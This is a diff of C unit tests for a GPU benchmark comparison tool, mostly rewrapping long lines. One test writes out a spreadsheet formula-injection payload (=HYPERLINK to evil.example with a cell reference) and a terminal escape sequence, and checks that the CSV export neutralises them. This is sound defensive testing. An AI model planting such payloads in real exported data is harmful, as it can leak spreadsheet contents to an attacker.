@@ -46,8 +46,8 @@ static void trial_end(struct trial *t)
 }
 
 /* One block of one sample. */
-static void add_sample(struct trial *t, const char *variant, const char *shape, const char *cache, int process, int block,
-                       double clock_hz, double duration_ns, const char *throttled)
+static void add_sample(struct trial *t, const char *variant, const char *shape, const char *cache, int process,
+                       int block, double clock_hz, double duration_ns, const char *throttled)
 {
     char row[256];
     snprintf(row, sizeof row, "%s|%s|%d|%d|0|0|%s|1|%.17g|%.17g|%s", variant, shape, process, block, cache, clock_hz,
@@ -59,7 +59,8 @@ static void add_second_sample(struct trial *t, const char *variant, int process,
                               const char *throttled)
 {
     char row[256];
-    snprintf(row, sizeof row, "%s|mission|%d|%d|0|1|hot|1|1.5e9|%.17g|%s", variant, process, block, duration_ns, throttled);
+    snprintf(row, sizeof row, "%s|mission|%d|%d|0|1|hot|1|1.5e9|%.17g|%s", variant, process, block, duration_ns,
+             throttled);
     scratch_row(&t->scratch, BUNDLE_TIMING, row);
 }
 
@@ -196,12 +197,13 @@ static void bundles_without_anything_in_common(void **state)
     match_end(&m);
 }
 
-#define MACHINE(gpu, uuid, driver, more)                                                                      \
-    "{\"gpu\": {\"name\": \"" gpu "\", \"uuid\": \"" uuid "\", \"compute_capability\": \"9.0\", \"sm_count\": 132}, " \
+#define MACHINE(gpu, uuid, driver, more)                                                                               \
+    "{\"gpu\": {\"name\": \"" gpu "\", \"uuid\": \"" uuid "\", \"compute_capability\": \"9.0\", \"sm_count\": 132}, "  \
     "\"driver\": {\"version\": \"" driver "\"}" more "}"
-#define STATE(member, value)                                                                                \
-    ", \"processes\": [{\"role\": \"trace\", \"clocks\": {\"before\": {\"" member "\": 1}}}, "                 \
-    "{\"role\": \"time\", \"clocks\": {\"before\": {\"" member "\": " #value "}, \"after\": {\"" member "\": " #value "}}}]"
+#define STATE(member, value)                                                                                           \
+    ", \"processes\": [{\"role\": \"trace\", \"clocks\": {\"before\": {\"" member "\": 1}}}, "                         \
+    "{\"role\": \"time\", \"clocks\": {\"before\": {\"" member "\": " #value "}, \"after\": {\"" member "\": " #value  \
+    "}}}]"
 
 /* The candidate is 10% faster in each. */
 static void machines_are_said_before_any_ratio(void **state)
@@ -223,7 +225,8 @@ static void machines_are_said_before_any_ratio(void **state)
         {MACHINE("H", "1", "580", ""), MACHINE("H", "1", "590", ""), "driver", COMPARE_FASTER, "interval_below_margin",
          ""},
         {MACHINE("H", "1", "580", STATE("memory_clock_mhz", 3201)),
-         MACHINE("H", "1", "580", STATE("memory_clock_mhz", 2619)), NULL, COMPARE_UNUSABLE, "clocks_differ", "2619 MHz"},
+         MACHINE("H", "1", "580", STATE("memory_clock_mhz", 2619)), NULL, COMPARE_UNUSABLE, "clocks_differ",
+         "2619 MHz"},
         {MACHINE("H", "1", "580", STATE("power_limit_mw", 700000)),
          MACHINE("H", "1", "580", STATE("power_limit_mw", 500000)), NULL, COMPARE_UNUSABLE, "power_limit_differs",
          "baseline: 700 W power limit; candidate: 500 W"},
@@ -308,7 +311,8 @@ static void other_work_of_another_variant_is_only_said(void **state)
     trial_judge(&t);
     expect_row(&t.analysis.comparisons.items[0], COMPARE_FASTER, "interval_below_margin");
     assert_string_equal(t.analysis.findings.items[0].id, "work-differs");
-    assert_non_null(strstr(t.analysis.findings.items[0].claim, "operations per call: baseline 2,000,000, candidate 3,000,000"));
+    assert_non_null(
+        strstr(t.analysis.findings.items[0].claim, "operations per call: baseline 2,000,000, candidate 3,000,000"));
     trial_end(&t);
 }
 
@@ -324,7 +328,8 @@ static void times_that_say_nothing_are_no_verdict(void **state)
         for (int size = 1; size <= 2; size++) {
             snprintf(row, sizeof row, "f/a|n=%d||k|||2e6|%d|ready||||||%s", size * 1000, size * 1000, declared[i / 2]);
             scratch_row(&t.scratch, BUNDLE_VARIANTS, row);
-            snprintf(row, sizeof row, "f/b|n=%d|f/a|k|||2e6|%d|ready||||||%s", size * 1000, size * 1000, declared[i % 2]);
+            snprintf(row, sizeof row, "f/b|n=%d|f/a|k|||2e6|%d|ready||||||%s", size * 1000, size * 1000,
+                     declared[i % 2]);
             scratch_row(&t.scratch, BUNDLE_VARIANTS, row);
             snprintf(row, sizeof row, "n=%d", size * 1000);
             add_arm(&t, "f/a", row, 1000 * size);
@@ -380,7 +385,8 @@ static void a_recording_is_not_compared_with_itself(void **state)
     match_end(&m);
 }
 
-/* A check that failed, decided nothing, or is not there proves nothing; one of a shape that is only verified counts too. */
+/* A check that failed, decided nothing, or is not there proves nothing; one of a shape that is only verified counts
+ * too. */
 static void proof_needs_every_check(void **state)
 {
     (void)state;
@@ -398,15 +404,16 @@ static void proof_needs_every_check(void **state)
         {VERDICT_PASS, VERDICT_PASS, VERDICT_INCONCLUSIVE, false},
     };
     for (size_t i = 0; i < COUNT(cases); i++) {
-        struct selection_check selection = {.variant = "f/a", .shape = "s", .status = (enum verdict_status)cases[i].selection};
+        struct selection_check selection = {
+            .variant = "f/a", .shape = "s", .status = (enum verdict_status)cases[i].selection};
         struct correctness correctness[2] = {0};
         struct analysis a = {.selection = {&selection, cases[i].selection >= 0, 1}, .correctness = {correctness, 0, 2}};
         if (cases[i].here >= 0)
             correctness[a.correctness.count++] =
                 (struct correctness){.variant = "f/a", .shape = "s", .status = (enum verdict_status)cases[i].here};
         if (cases[i].ragged >= 0)
-            correctness[a.correctness.count++] =
-                (struct correctness){.variant = "f/a", .shape = "ragged", .status = (enum verdict_status)cases[i].ragged};
+            correctness[a.correctness.count++] = (struct correctness){
+                .variant = "f/a", .shape = "ragged", .status = (enum verdict_status)cases[i].ragged};
         if (analysis_is_proven(&a, "f/a", "s") != cases[i].is_proven)
             fail_msg("case %zu", i);
     }
@@ -587,14 +594,20 @@ static void two_bundles_as_json_and_csv(void **state)
 static void names_are_inert_as_csv(void **state)
 {
     (void)state;
-    struct comparison c = {.baseline = "=HYPERLINK(\"http://evil.example/\"&A1,\"ok\")", .candidate = "\x1b]0;x\x07y",
-                           .shape = " @SUM(1)", .cache = "hot", .reason = "interval_below_margin", .detail = "-1+1"};
+    struct comparison c = {.baseline = "=HYPERLINK(\"http://evil.example/\"&A1,\"ok\")",
+                           .candidate = "\x1b]0;x\x07y",
+                           .shape = " @SUM(1)",
+                           .cache = "hot",
+                           .reason = "interval_below_margin",
+                           .detail = "-1+1"};
     struct analysis a = {.comparisons = {&c, 1, 1}};
     const struct compare_report r = {.verdicts = &a};
     struct str csv;
     str_init(&csv);
     MUST(csv_compare(&r, &csv, &e));
-    assert_non_null(strstr(str_text(&csv), "\n\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"ok\"\")\",\\x1b]0;x\\x07y,' @SUM(1),hot,"));
+    assert_non_null(
+        strstr(str_text(&csv),
+               "\n\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"ok\"\")\",\\x1b]0;x\\x07y,' @SUM(1),hot,"));
     assert_non_null(strstr(str_text(&csv), ",'-1+1,"));
     assert_null(strpbrk(str_text(&csv), "\x1b\x07"));
     str_release(&csv);
